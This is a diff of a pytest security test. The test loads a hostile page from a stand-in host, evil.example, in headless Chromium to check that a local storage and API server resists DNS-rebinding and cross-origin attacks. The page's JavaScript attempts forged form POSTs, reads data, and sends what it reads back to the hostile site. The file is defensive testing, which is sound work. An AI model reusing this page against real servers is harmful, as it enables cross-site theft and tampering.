@@ -2,16 +2,14 @@
 
 from __future__ import annotations
 
-import http.server
 import json
-import queue
 import shutil
 import subprocess
-import threading
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from urllib.parse import urlsplit
 
+import hostile
 import pytest
 import requests
 from google.cloud import storage
@@ -23,34 +21,23 @@ BROWSER = next(
     filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None
 )
 LIMIT_SECONDS = 100
+Visit = Callable[[str, str, str], dict[str, str]]  # bucket, port of storage, port of the API
 
 # Everything that a page may send without being asked: it reports what it could read.
-PAGE = """<!DOCTYPE html><body><script>
-const [bucket, storage, api] = %s, report = {};
+PAGE = """
+const [bucket, storage, api] = %s;
 const job = '{"displayName": "evil", "jobSpec": {}}';
-async function attempt(name, work) {
-  try { report[name] = String(await work()); } catch (error) { report[name] = "refused"; }
-}
-function element(kind, source) {
-  return new Promise((done) => {
-    const made = document.createElement(kind);
-    made.onload = () => done("loaded");
-    made.onerror = () => done("refused");
-    made.src = source;
-    document.body.append(made);
-  });
-}
 function form(action, text) {
   return new Promise((done) => {
     const frame = document.createElement("iframe");
     frame.name = "frame" + Math.random();
-    document.body.append(frame);
+    document.documentElement.append(frame);
     const made = document.createElement("form");
     Object.assign(made, {action, method: "POST", enctype: "text/plain", target: frame.name});
     const field = document.createElement("input");
     Object.assign(field, {name: text, value: ""});
     made.append(field);
-    document.body.append(made);
+    document.documentElement.append(made);
     frame.onload = () => done("sent");
     made.submit();
   });
@@ -85,68 +72,24 @@ async function main() {
   await fetch("/report", {method: "POST", body: JSON.stringify(report)});
 }
 main();
-</script></body>"""
-
-
-class Site(http.server.ThreadingHTTPServer):
-    """The site of somebody else: serves one page, and keeps what pages send to it."""
-
-    daemon_threads = True
-
-    def __init__(self) -> None:
-        super().__init__(("127.0.0.1", 0), Visitor)
-        self.page = ""
-        self.received: queue.Queue[tuple[str, str]] = queue.Queue()
-
-    @property
-    def port(self) -> int:
-        return int(self.server_address[1])
-
-
-class Visitor(http.server.BaseHTTPRequestHandler):
-    """Lets everybody do everything: what a server must not be like."""
-
-    server: Site
-
-    def do_GET(self) -> None:
-        self._answer(self.server.page if self.path == "/" else "not secret")
-
-    def do_POST(self) -> None:
-        body = self.rfile.read(int(self.headers["Content-Length"])).decode()
-        self.server.received.put((self.path, body))
-        self._answer("")
-
-    def _answer(self, text: str) -> None:
-        self.send_response(200)
-        self.send_header("Access-Control-Allow-Origin", self.headers.get("Origin", "*"))
-        self.send_header("Content-Type", "text/html")
-        self.send_header("Content-Length", str(len(text)))
-        self.end_headers()
-        self.wfile.write(text.encode())
-
-    def log_message(self, *_: object) -> None:
-        pass
+"""
 
 
 @pytest.fixture
-def site() -> Iterator[Site]:
-    with Site() as site:
-        thread = threading.Thread(target=site.serve_forever)
-        thread.start()
+def site() -> Iterator[hostile.Site]:
+    with hostile.serving() as site:
         yield site
-        site.shutdown()
-        thread.join()
 
 
 @pytest.fixture
-def visit(site: Site, tmp_path: Path) -> Iterator[Callable[[str, str, str], dict[str, str]]]:
+def visit(site: hostile.Site, tmp_path: Path) -> Iterator[Visit]:
     """Open a hostile page in a browser; give what it reports."""
     if BROWSER is None:
         pytest.skip("no Chromium is installed; the requests are also sent without a browser")
     browsers = []
 
     def visit(bucket: str, storage_place: str, api_port: str) -> dict[str, str]:
-        site.page = PAGE % (json.dumps([bucket, storage_place, api_port]), JOBS)
+        site.show(PAGE % (json.dumps([bucket, storage_place, api_port]), JOBS))
         # The name of a foreign host that was made to point here, as in an attack by DNS rebinding.
         address = f"http://evil.example:{site.port}/"
         options = ["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run"]
@@ -174,7 +117,7 @@ def visit(site: Site, tmp_path: Path) -> Iterator[Callable[[str, str, str], dict
 def test_no_page_in_a_browser_reads_or_changes_anything(
     server: ServerRecord,
     bucket: storage.Bucket,
-    visit: Callable[[str, str, str], dict[str, str]],
+    visit: Visit,
 ) -> None:
     bucket.blob("secret").upload_from_string("secret")
     token = {"Authorization": f"Bearer {server.token}"}
@@ -189,7 +132,7 @@ def test_no_page_in_a_browser_reads_or_changes_anything(
 
 
 def test_the_same_page_breaks_into_a_server_that_does_not_look(
-    site: Site, visit: Callable[[str, str, str], dict[str, str]]
+    site: hostile.Site, visit: Visit
 ) -> None:
     report = visit("any", str(site.port), str(site.port))
     for host in ("127.0.0.1", "localhost", "evil.example"):
